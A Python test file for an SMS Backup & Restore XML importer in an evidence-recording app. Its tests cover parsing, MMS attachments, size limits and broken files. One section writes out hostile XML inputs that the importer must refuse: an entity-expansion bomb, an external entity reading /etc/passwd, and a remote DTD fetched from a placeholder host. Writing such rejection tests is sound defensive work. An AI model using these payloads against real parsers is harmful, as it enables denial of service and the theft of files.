"""SMS Backup & Restore XML (sms): the corpus backups in ../shared/corpora/chat-exports
read with senders, UTC times (milliseconds or seconds), the backup's count checked, MMS
text and pictures (kept as attachment artefacts whose hash is that of the decoded
part); hostile XML (entity bombs, outside entities) refused; a cut-off backup kept up to
the break; imported into a real vault."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import pytest
from conftest import chat_export
from conftest import parsed_export as parsed

from evidence_recorder.core.conversation import MessageKind
from evidence_recorder.core.errors import RefusedInput
from evidence_recorder.core.gather import recorder
from evidence_recorder.core.gather.messages import detect, limits, sms
from evidence_recorder.core.model import ArtefactRole
from evidence_recorder.core.vault.store import Vault

HEAD = "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n"


def corpus(name: str) -> Path:
    return chat_export("sms-backup-restore", name)


def backup(path: Path, body: str, count: int | None = None) -> Path:
    stated = f' count="{count}"' if count is not None else ""
    path.write_text(f"{HEAD}<smses{stated}>\n{body}</smses>\n", encoding="utf-8")
    return path


def test_every_corpus_backup_is_taken_for_one() -> None:
    files = sorted(corpus(".").iterdir())
    assert len(files) == 3
    for path in files:
        assert detect.what_is(path) == detect.FORMATS["sms-xml"], path.name


def test_a_backup_with_dates_in_seconds_and_a_wrong_count() -> None:
    export = parsed(corpus("python-smsbackuptools-sms.xml"))
    src = export.source
    assert (src.format, src.parser) == ("sms-backup-xml", "sms/1")
    assert len(export.messages) == 9 and src.message_count == 9
    assert "The backup says it holds 2 messages; 9 were found in it." in src.notes
    assert any("in seconds rather than milliseconds" in n for n in src.notes)
    first, second = export.messages[:2]
    assert (first.sender, first.sender_id, first.text) == (
        "Robot Dog", "5555554455", "Sweetest soul I will ever meet. ")
    assert first.sent_at == "2012-04-21T22:10:17.074Z"  # milliseconds
    assert first.written_at == "Apr 21, 2012 4:10:17 PM"
    assert (second.sender, second.sender_id) == (sms.THIS_PHONE, "")
    assert second.extra["to"] == "5555554455" and second.extra["direction"] == "sent"
    assert export.messages[5].sent_at == "2017-02-01T03:51:24.000Z"  # seconds
    assert export.messages[7].sender_id == "1-555-555-5655"  # numbers as written
    assert src.title == "Text messages with Robot Dog, Robot Cat and 3 others"
    assert src.participants == ["Robot Dog", "Robot Cat", "Human Person 2", "Human Person",
                                "Robot Person", sms.THIS_PHONE]
    assert src.zone_assumed == ""
    assert export.original_name == "python-smsbackuptools-sms.xml"
    assert export.original_media_type == "application/xml"


def test_mms_text_parts_duplicates_and_a_matching_count() -> None:
    export = parsed(corpus("AndroidSMSBackupRestoreCleaner-sms.xml"))
    assert len(export.messages) == 4
    assert not any("says it holds" in n for n in export.source.notes)
    assert any(n.startswith("2 messages appear twice") for n in export.source.notes)
    mms = export.messages[2]
    assert mms.extra["kind"] == "mms" and mms.sender == "MMA"
    assert mms.sender_id == "+339001234567"
    assert mms.text.startswith('Bah en gros "bonjour je voudrais prendre rdv" "oui c\'est')
    assert "21€ de prime d'activité" in mms.text and mms.text.endswith("Bref voilà :(")
    assert mms.sent_at == "2016-10-31T13:18:26.000Z"
    assert export.source.title == "Text messages with Cute Chic and MMA"


def decoded_parts(path: Path) -> list[bytes]:
    """The pictures in a backup, decoded independently of the app's parser."""
    return [base64.b64decode(data) for data in re.findall(rb'\sdata="([^"]*)"', path.read_bytes())]


def test_mms_pictures_are_attachments_linked_from_their_message() -> None:
    path = corpus("AndroidSMSBackupRestoreCleaner-sms_old.xml")
    export = parsed(path)
    pictures = decoded_parts(path)
    assert len(pictures) == 2 and pictures[0].startswith(b"\xff\xd8\xff")
    assert [m.name for m in export.media] == ["PART_1436790909828.jpg",
                                              "PART_1436790909828-2.jpg"]
    for message, media, picture in zip(export.messages[4:], export.media, pictures,
                                       strict=True):
        assert message.text == "Un tout beau tout neuf :D"  # the SMIL part is left out
        (attachment,) = message.attachments
        assert attachment.artefact == media.name and attachment.name == "PART_1436790909828"
        assert attachment.media_type == "image/jpeg" and attachment.size == len(picture)
        assert media.size == len(picture)
        with media.open() as stream:
            assert stream.read() == picture
    assert export.messages[4].sender == sms.THIS_PHONE  # msg_box 2: sent from the phone


def test_import_keeps_the_backup_and_each_picture_as_artefacts(vault: Vault) -> None:
    path = corpus("AndroidSMSBackupRestoreCleaner-sms_old.xml")
    outcome = recorder.import_files(vault, [path])
    assert outcome.refused == []
    ((_, item_id),) = outcome.saved
    assert outcome.taken_as[path] == "a text-message backup (SMS Backup & Restore)"
    artefacts = {a.name: a for a in vault.artefacts(item_id)}
    primary = artefacts[path.name]
    assert primary.role is ArtefactRole.EXPORT and primary.media_type == "application/xml"
    assert primary.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    picture = decoded_parts(path)[0]
    kept = artefacts["PART_1436790909828.jpg"]
    assert kept.role is ArtefactRole.ATTACHMENT and kept.media_type == "image/jpeg"
    assert kept.sha256 == hashlib.sha256(picture).hexdigest()
    assert vault.artefact_bytes(item_id, "PART_1436790909828.jpg") == picture
    stored = vault.messages(item_id)
    assert len(stored) == 6
    assert stored[4].attachments[0].artefact == "PART_1436790909828.jpg"
    assert vault.capture(item_id).title == "Text messages with Moi and B G"


def test_received_mms_sender_comes_from_its_from_address(tmp_path: Path) -> None:
    picture = b"\x89PNG\r\n\x1a\nfake"
    path = backup(tmp_path / "sms.xml", f"""
  <mms date="1795597200000" msg_box="1" address="+447700900001~+447700900002"
       contact_name="null" readable_date="25 Nov 2026 09:00:00" sub="null">
    <parts>
      <part seq="0" ct="text/plain" name="null" fn="null" cl="null" text="first line" />
      <part seq="1" ct="image/png" name="null" fn="null" cl="null" data="{
        base64.b64encode(picture).decode()}" />
      <part seq="2" ct="video/mp4" name="clip.mp4" fn="null" cl="null" />
      <part seq="3" ct="text/plain" name="null" fn="null" cl="null" text="second line" />
    </parts>
    <addrs>
      <addr address="+447700900002" type="137" charset="106" />
      <addr address="+447700900001" type="151" charset="106" />
    </addrs>
  </mms>
""", count=1)
    export = parsed(path)
    (message,) = export.messages
    assert message.sender == "+447700900002" and message.sender_id == "+447700900002"
    assert message.text == "first line\nsecond line"
    kept, missing = message.attachments
    assert kept.artefact == "mms-0-part-1.png" and kept.size == len(picture)
    assert missing.name == "clip.mp4" and missing.omitted and missing.artefact == ""
    assert export.source.title == "Text messages with +447700900001~+447700900002"
    assert export.source.notes == []


def test_pictures_beyond_the_bound_are_listed_not_kept(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_MEMBER_BYTES", 30)
    path = backup(tmp_path / "sms.xml", f"""
  <mms date="1795597200000" msg_box="2" address="07700900001" contact_name="Alex">
    <parts><part ct="image/jpeg" fn="big.jpg" data="{base64.b64encode(b"x" * 300).decode()}"/>
      <part ct="image/jpeg" fn="small.jpg" data="{base64.b64encode(b"y" * 20).decode()}"/>
    </parts>
  </mms>""")
    export = parsed(path)
    big, small = export.messages[0].attachments
    assert big.artefact == "" and big.note == "too large to keep"
    assert small.artefact == "small.jpg" and [m.name for m in export.media] == ["small.jpg"]
    assert any("too large to keep" in n for n in export.source.notes)


# --- hostile and broken backups ------------------------------------------------------------

def billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)]
    return (HEAD + "<!DOCTYPE smses [\n" + "\n".join(entities) + "\n]>\n"
            '<smses count="1"><sms address="1" date="1795597200000" type="1" '
            'body="&lol9;" /></smses>\n')


@pytest.mark.parametrize("text", [
    billion_laughs(),
    HEAD + '<!DOCTYPE smses [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
           '<smses count="1"><sms address="1" date="1" type="1" body="&secret;" /></smses>',
    HEAD + '<!DOCTYPE smses [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd"> %remote;]>\n'
           '<smses count="0"></smses>',
])
def test_entity_definitions_are_refused(tmp_path: Path, vault: Vault, text: str) -> None:
    path = tmp_path / "sms-20261125.xml"
    path.write_text(text, encoding="utf-8")
    assert detect.what_is(path) == detect.FORMATS["sms-xml"]
    message = ("sms-20261125.xml contains XML this app will not read "
               "(entity definitions).")
    with pytest.raises(RefusedInput) as refused:
        detect.parse(path)
    assert refused.value.message == message
    outcome = recorder.import_files(vault, [path])
    assert outcome.saved == [] and outcome.refused == [(path, message)]


def test_a_backup_cut_off_part_way_keeps_what_came_before(tmp_path: Path) -> None:
    data = corpus("python-smsbackuptools-sms.xml").read_bytes()
    cut = tmp_path / "sms.xml"
    cut.write_bytes(data[:data.index(b"Still in Portland") + 5])
    export = parsed(cut)
    assert [m.kind for m in export.messages] == [MessageKind.MESSAGE] * 2 + [
        MessageKind.UNREADABLE]
    assert export.messages[2].text.startswith("(The rest of the backup could not be read")
    assert "line 6" in export.messages[2].text
    assert export.source.unreadable_count == 1 and export.source.message_count == 2
    assert any("breaks off or is broken at line 6" in n for n in export.source.notes)


def test_a_backup_broken_before_any_message_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "sms.xml"
    path.write_text(HEAD + '<smses count="3">\n  <sms address="1" date=', encoding="utf-8")
    with pytest.raises(RefusedInput, match="is not a text-message backup this app can read: "
                                           "its XML breaks off or is broken at line 3"):
        detect.parse(path)


def test_xml_that_is_not_a_backup_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "other.xml"
    path.write_text(HEAD + '<calls><sms address="1" date="1" type="1" body="x"/></calls>',
                    encoding="utf-8")
    with pytest.raises(RefusedInput, match="does not start with <smses>"):
        detect.parse(path)


def test_a_backup_beyond_the_size_bound_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_XML_BYTES", 1000)
    with pytest.raises(RefusedInput, match="too large for this app to read as a text-message"):
        detect.parse(corpus("python-smsbackuptools-sms.xml"))


def test_unreadable_values_keep_the_message(tmp_path: Path) -> None:
    path = backup(tmp_path / "sms.xml", """
  <sms address="07700900001" date="soon" type="1" body="no time" contact_name="(Unknown)"/>
  <sms address="" date="1795597200" type="2" contact_name="null"/>
""", count=2)
    first, second = parsed(path).messages
    assert (first.sent_at, first.written_at, first.text) == ("", "soon", "no time")
    assert first.sender == "07700900001"  # "(Unknown)" is no name
    assert (second.sender, second.text, second.sent_at) == (sms.THIS_PHONE, "",
                                                           "2026-11-25T09:00:00.000Z")


@pytest.mark.parametrize("straddle", [None, 3, 8, 11, 17, 21])
def test_emoji_written_as_two_utf16_halves_are_read_as_one(tmp_path: Path,
                                                           straddle: int | None) -> None:
    """Older SMS Backup & Restore writes 😀 as "&#55357;&#56832;", which XML forbids;
    ``straddle`` puts the reader's first 1 MiB chunk end that many bytes into a pair."""
    def text(padding: int) -> str:
        return (f'{HEAD}<smses count="2"><!--{"." * padding}-->\n'
                '  <sms address="07700900001" date="1795597200000" type="1" '
                'body="hi &#55357;&#56832; &#xD83D;&#xDC4D; &#10004; &#56832;." />\n'
                '  <sms address="07700900001" date="1795597200001" type="1" body="next" />\n'
                "</smses>")
    padding = 0
    if straddle is not None:
        padding = 1024 * 1024 - text(0).index("&#55357;") - straddle
        assert text(padding).encode()[1024 * 1024 - straddle:][:8] == b"&#55357;"
    path = tmp_path / "sms.xml"
    path.write_text(text(padding), encoding="utf-8")
    export = parsed(path)
    assert [m.text for m in export.messages] == ["hi 😀 👍 ✔ \ufffd.", "next"]
    assert export.source.unreadable_count == 0


def test_xml_nested_100000_deep_is_read_without_a_crash(tmp_path: Path) -> None:
    deep = 100_000
    path = backup(tmp_path / "sms.xml", '<sms address="1" date="1795597200000" type="1" '
                  'body="before"/>' + "<x>" * deep + "</x>" * deep
                  + '<mms msg_box="1" date="1795597200000">' + "<parts>" * deep
                  + '<part ct="text/plain" text="deep"/>' + "</parts>" * deep + "</mms>",
                  count=2)
    export = parsed(path)
    assert [m.text for m in export.messages] == ["before", "deep"]


def test_a_backup_whose_name_has_a_backslash_is_kept_under_a_name_the_vault_takes(
        tmp_path: Path, vault: Vault) -> None:
    path = backup(tmp_path / "sms\\2026.xml", '<sms address="1" date="1795597200000" '
                  'type="1" body="hi"/>', count=1)
    outcome = recorder.import_files(vault, [path])
    ((_, item_id),) = outcome.saved
    assert [a.name for a in vault.artefacts(item_id)] == ["sms_2026.xml"]
    assert vault.capture(item_id).messages.file_name == "sms\\2026.xml"  # type: ignore[union-attr]
